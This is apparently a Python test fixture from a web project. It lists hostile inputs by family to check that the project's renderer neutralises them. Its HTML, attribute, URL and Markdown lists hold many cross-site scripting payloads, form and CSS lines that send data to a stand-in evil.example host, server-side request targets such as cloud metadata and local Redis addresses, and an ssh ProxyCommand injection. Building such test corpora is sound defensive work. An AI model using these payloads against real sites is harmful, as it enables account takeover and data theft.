"""Hostile texts of our own, by what they try; see `corpus_more` for the rest.

What runs says so by a dialog or by an address at `evil.example`. Nothing in here may do
either on a page of ours, whatever text it is in.
"""

from __future__ import annotations

import dataclasses

from tests.safety.corpus_more import MORE

BOOM = "alert('pwned')"
EVIL = "https://evil.example"
WORLDS = 4
"""Worlds that the whole corpus is shared out to, to be tried one by one."""


@dataclasses.dataclass(frozen=True, slots=True)
class Hostile:
    """A text, and its place in the corpus."""

    number: int
    family: str
    text: str


def _with(*frames: str) -> tuple[str, ...]:
    """Frames with what runs in place of BOOM, and a foreign place in that of EVIL."""
    return tuple(one.replace("BOOM", BOOM).replace("EVIL", EVIL) for one in frames)


HTML = _with(
    "<script>BOOM</script>",
    "<ScRiPt>BOOM</sCrIpT>",
    "<script src=EVIL/x.js></script>",
    "<script/src='EVIL/x.js'></script>",
    "<scr<script>ipt>BOOM</scr</script>ipt>",
    "<script type=module>import 'EVIL/m.js'</script>",
    "<script>BOOM//",
    "<<script>BOOM//<</script>",
    "</script><script>BOOM</script>",
    "</title><script>BOOM</script>",
    "</textarea><script>BOOM</script>",
    "</style><script>BOOM</script>",
    "</noscript><script>BOOM</script>",
    "</option></select><script>BOOM</script>",
    "</td></tr></table><script>BOOM</script>",
    "</template><script>BOOM</script>",
    "--><script>BOOM</script>",
    "<!--><script>BOOM</script>",
    "<!-- <img src=x onerror=BOOM> -->",
    "<![CDATA[<script>BOOM</script>]]>",
    "]]><script>BOOM</script>",
    "<?xml version='1.0'?><script>BOOM</script>",
    "<img src=x onerror=BOOM>",
    "<IMG SRC=x ONERROR=BOOM>",
    "<img/src=x/onerror=BOOM>",
    "<img src=EVIL/pixel.png>",
    "<img srcset='EVIL/pixel.png 1x'>",
    "<img src='x' onerror='BOOM' alt=\"",
    '<img src="x` `<script>BOOM</script>"` `>',
    "<video src=x onerror=BOOM></video>",
    "<video poster=EVIL/poster.png></video>",
    "<audio src=x onerror=BOOM autoplay></audio>",
    "<iframe src=javascript:BOOM></iframe>",
    "<iframe srcdoc='<script>BOOM</script>'></iframe>",
    "<iframe src=EVIL/></iframe>",
    "<object data=javascript:BOOM></object>",
    "<object data='EVIL/x.swf'></object>",
    "<embed src=javascript:BOOM>",
    "<base href=EVIL/>",
    "<link rel=stylesheet href=EVIL/x.css>",
    "<link rel=prefetch href=EVIL/prefetched>",
    "<meta http-equiv=refresh content='0;url=EVIL/'>",
    "<meta http-equiv=refresh content='0;url=javascript:BOOM'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<style>@import 'EVIL/x.css';</style>",
    "<style>*{background:url(EVIL/leak)}</style>",
    "<p style='background:url(EVIL/leak)'>styled</p>",
    '<p style="position:fixed;inset:0;z-index:99">over all</p>',
    "<form action=EVIL/><button>Sign in</button></form>",
    "</form><form action=EVIL/ id=other><input name=token>",
    "<button form=x formaction=EVIL/>go</button>",
    "<input autofocus onfocus=BOOM>",
    "<select autofocus onfocus=BOOM></select>",
    "<textarea autofocus onfocus=BOOM></textarea>",
    "<details open ontoggle=BOOM>x</details>",
    "<dialog open onclose=BOOM>x</dialog>",
    "<marquee onstart=BOOM>x</marquee>",
    "<body onload=BOOM>",
    "<svg onload=BOOM>",
    "<svg/onload=BOOM>",
    "<svg><script>BOOM</script></svg>",
    "<svg><script xlink:href=EVIL/x.js /></svg>",
    "<svg><animate onbegin=BOOM attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:BOOM><text y=20>x</text></a></svg>",
    "<svg><use href='EVIL/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe src=javascript:BOOM></foreignObject></svg>",
    "<svg><style>@import 'EVIL/s.css'</style></svg>",
    "<svg><image href=EVIL/pixel.png /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:BOOM>x",
    "<math href=javascript:BOOM>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=BOOM>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=BOOM>",
    "<noscript><p title='</noscript><img src=x onerror=BOOM>'>",
    "<template><script>BOOM</script></template>",
    "<a href=javascript:BOOM>x</a>",
    "<a ping=EVIL/ href=/>x</a>",
    "<a target=_blank href=EVIL/>x</a>",
    "<x onclick=BOOM tabindex=1 autofocus onfocus=BOOM>x</x>",
    "<isindex type=image src=1 onerror=BOOM>",
    "<keygen autofocus onfocus=BOOM>",
    "<plaintext>",
    "<xmp><script>BOOM</script>",
    "<listing><img src=x onerror=BOOM>",
    "<portal src=EVIL/></portal>",
    "<input type=image src=EVIL/pixel.png>",
    "<img name=cookie><img id=pwned name=getElementById>",
    "<form id=document name=body><input name=innerHTML>",
    "<a id=config name=config href=EVIL/>",
    "<div hx-get=/me/ hx-trigger=load>x</div>",
    "<div data-hx-on:load='BOOM'>x</div>",
    '<div hx-on--after-request="BOOM" hx-post=/me/delete/ hx-trigger=load>',
    "<div id=main>second main</div>",
    "&lt;script&gt;BOOM&lt;/script&gt;",
    "&amp;lt;img src=x onerror=BOOM&amp;gt;",
    "&#60;script&#62;BOOM&#60;/script&#62;",
    "&#x3c;img src=x onerror=BOOM&#x3e;",
    "&lt&gt&quot&#39 &NotAnEntity; &#0; &#xD800; &#x110000;",
    "%3Cscript%3EBOOM%3C/script%3E",
    "\\x3cscript\\x3eBOOM\\x3c/script\\x3e",
    "\\u003cscript\\u003eBOOM\\u003c/script\\u003e",
    "\uff1cscript\uff1eBOOM\uff1c/script\uff1e",
    "+ADw-script+AD4-BOOM+ADw-/script+AD4-",
    "<script\x0b>BOOM</script>",
    "<img\x0csrc=x\x0conerror=BOOM>",
)
ATTRIBUTES = _with(
    '" onmouseover="BOOM',
    "' onmouseover='BOOM",
    '"onfocus=BOOM autofocus x="',
    "` onmouseover=`BOOM",
    '"><script>BOOM</script>',
    "'><script>BOOM</script>",
    '"/><img src=x onerror=BOOM><a title="',
    "x onerror=BOOM",
    "x/onerror=BOOM//",
    '" style="background:url(EVIL/leak)',
    '" href="javascript:BOOM',
    '" srcdoc="<script>BOOM</script>',
    '" formaction="EVIL/" form="',
    '" hx-get="/me/" hx-trigger="load" x="',
    '" id="main" class="skip-link',
    '" data-item="e-1-" data-cell="',
    "&quot; onmouseover=&quot;BOOM",
    "&#34; onmouseover=&#34;BOOM",
    '\\" onmouseover=\\"BOOM',
    "\\' onmouseover=\\'BOOM",
    "=BOOM",
    "a\"b'c`d<e>f&g",
)
ADDRESSES = _with(
    "javascript:BOOM",
    "JaVaScRiPt:BOOM",
    "java\tscript:BOOM",
    "java\nscript:BOOM",
    " javascript:BOOM",
    "\x01javascript:BOOM",
    "\u00a0javascript:BOOM",
    "javascript&colon;BOOM",
    "javascript&#58;BOOM",
    "&#106;avascript:BOOM",
    "javascript:%61lert('pwned')",
    "javascript://example.org/%0aBOOM",
    "javascript:/*--></title></style></script><svg/onload=BOOM>",
    "data:text/html,<script>BOOM</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='BOOM'/>",
    "vbscript:msgbox(1)",
    "view-source:javascript:BOOM",
    "blob:EVIL/3d0f",
    "filesystem:EVIL/temporary/x",
    "feed:javascript:BOOM",
    "jar:EVIL/x.jar!/",
    "mailto:a@example.org?bcc=all@evil.example&body=%0d%0aX",
    "tel:+1-900-EVIL",
    "file:///etc/passwd",
    "ssh://-oProxyCommand=touch/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example",
    "https:///evil.example",
    "http://github.com@evil.example/x",
    "https://github.com:pw@evil.example/",
    "https://github.com.evil.example/",
    "https://evil.example/#https://github.com/",
    'https://github.com/"onmouseover=BOOM//',
    "https://github.com/'><svg onload=BOOM>",
    "https://github.com/a b\tc\nd",
    "https://\u0433ithub.com/",
    "http://[::1]/",
    "http://127.0.0.1:6379/",
    "http://169.254.169.254/latest/meta-data/",
    "?next=//evil.example",
    '#"><script>BOOM</script>',
)
MARKDOWN = _with(
    "![pixel](EVIL/pixel.png)",
    "![x](javascript:BOOM)",
    "![x][ref]\n\n[ref]: EVIL/pixel.png",
    "[click](javascript:BOOM)",
    "[click](JAVASCRIPT:BOOM)",
    "[click]( java\nscript:BOOM)",
    "[click](data:text/html,<script>BOOM</script>)",
    "[click](vbscript:x)",
    "[click](<javascript:BOOM>)",
    "[click](javascript&colon;BOOM)",
    '[click](EVIL/ "title\\" onmouseover=BOOM")',
    '[a](EVIL/"onmouseover="BOOM)',
    "[click][js]\n\n[js]: javascript:BOOM",
    "<javascript:BOOM>",
    '<https://evil.example/"onclick=BOOM>',
    "EVIL/?a=<script>BOOM</script>",
    "www.evil.example/<img src=x onerror=BOOM>",
    "[^1]\n\n[^1]: <script>BOOM</script>",
    "```html\n<script>BOOM</script>\n```",
    "````\n```\n<script>BOOM</script>\n````",
    '~~~"><script>BOOM</script>\nx\n~~~',
    "```\n</code></pre><script>BOOM</script>",
    "`<script>BOOM</script>`",
    "``` <img src=x onerror=BOOM>",
    "    <script>BOOM</script>",
    "> <script>BOOM</script>",
    "- [ ] <img src=x onerror=BOOM>",
    "- [x](javascript:BOOM)",
    "| a | b |\n|---|---|\n| <img src=x onerror=BOOM> | \\| |",
    "# <svg onload=BOOM>",
    "**bold <script>BOOM</script>**",
    "<details><summary>x</summary><script>BOOM</script></details>",
    "<!-- hidden --> <b onclick=BOOM>x</b>",
    "<div>\n\n**x** <img src=x onerror=BOOM>\n\n</div>",
    "\\<script>BOOM\\</script>",
    "&lt;img src=x onerror=BOOM&gt; **x**",
    "[[wiki|javascript:BOOM]]",
    "$$\\href{javascript:BOOM}{x}$$",
    '```mermaid\ngraph TD; A["<img src=x onerror=BOOM>"]\n```',
    '[toc]: # ("><script>BOOM</script>)',
    "*" * 60 + "_" * 60,
    "[" * 80 + "x" + "](y)" * 80,
    "> " * 60 + "deep",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "HTML, SVG and MathML": HTML,
    "breaking out of attributes": ATTRIBUTES,
    "addresses": ADDRESSES,
    "Markdown": MARKDOWN,
    **MORE,
}


def every() -> list[Hostile]:
    """The corpus, each text once."""
    found = [(family, text) for family, many in FAMILIES.items() for text in many]
    return [Hostile(number, *one) for number, one in enumerate(found)]


def some(number: int) -> list[Hostile]:
    """So many of them, of every family its share: what `make test` has time for."""
    texts = every()
    step = len(texts) / number
    return [texts[int(place * step)] for place in range(number)]
